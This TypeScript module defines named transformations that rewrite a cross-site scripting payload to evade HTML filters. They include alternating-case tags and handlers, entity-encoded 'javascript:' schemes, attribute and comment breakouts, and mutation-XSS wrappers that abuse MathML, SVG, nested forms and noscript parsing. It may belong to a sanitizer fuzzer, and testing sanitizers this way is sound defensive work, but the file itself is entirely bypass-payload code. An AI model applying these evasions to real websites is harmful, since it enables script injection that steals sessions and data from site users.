/** Other ways to write an attack, by which filters are evaded: each gives a text that means the same to some parser. */
export const forms: Record<string, (vector: string) => string> = {
  'as it is': (vector) => vector,
  'in capitals by turns': (vector) => vector.replace(/<\/?[a-z]+|on[a-z]+(?==)|javascript/gi, (word) => [...word].map((letter, i) => (i % 2 ? letter.toUpperCase() : letter.toLowerCase())).join('')),
  'with slashes for spaces': (vector) => vector.replace(/ (?=\w+=)/g, '/'),
  'with a line break in the scheme': (vector) => vector.replace(/javascript:/gi, 'java&#10;script&colon;'),
  'with letters as numbers': (vector) => vector.replace(/(?<==["']?)(?:javascript|data|vbscript)/gi, (word) => [...word].map((letter) => `&#x${letter.charCodeAt(0).toString(16)}`).join(';') + ';'),
  'out of an attribute': (vector) => `<a title="${vector}">x</a><img alt='${vector}'>`,
  'in a comment that ends early': (vector) => `<!--><!-- --!>${vector}<!--`,
  'behind MathML that is taken for HTML': (vector) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${vector}"></table>${vector}`,
  'behind SVG that is taken for HTML': (vector) => `<svg></p><style><a id="</style>${vector}">`,
  'in a form within a form': (vector) => `<form><math><mtext></form><form><mglyph><style></math>${vector}`,
  'in what is no script': (vector) => `<noscript><p title="</noscript>${vector}">`,
  'cut off': (vector) => vector.slice(0, Math.ceil(vector.length * 0.8)),
};
